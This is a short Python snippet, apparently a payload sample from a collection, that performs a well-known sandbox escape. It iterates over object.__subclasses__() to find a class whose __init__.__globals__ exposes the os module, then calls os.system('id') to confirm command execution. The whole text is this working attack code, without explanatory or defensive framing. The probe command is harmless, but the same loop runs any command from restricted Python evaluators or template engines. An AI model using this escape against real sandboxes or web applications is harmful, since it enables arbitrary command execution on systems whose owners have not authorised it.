# corpus: object.__subclasses__() scan for an __init__.__globals__ that holds the os module
for cls in object.__subclasses__():
    init = getattr(cls, "__init__", None)
    glb = getattr(init, "__globals__", None)
    if glb and "os" in glb and hasattr(glb["os"], "system"):
        glb["os"].system("id")
        break
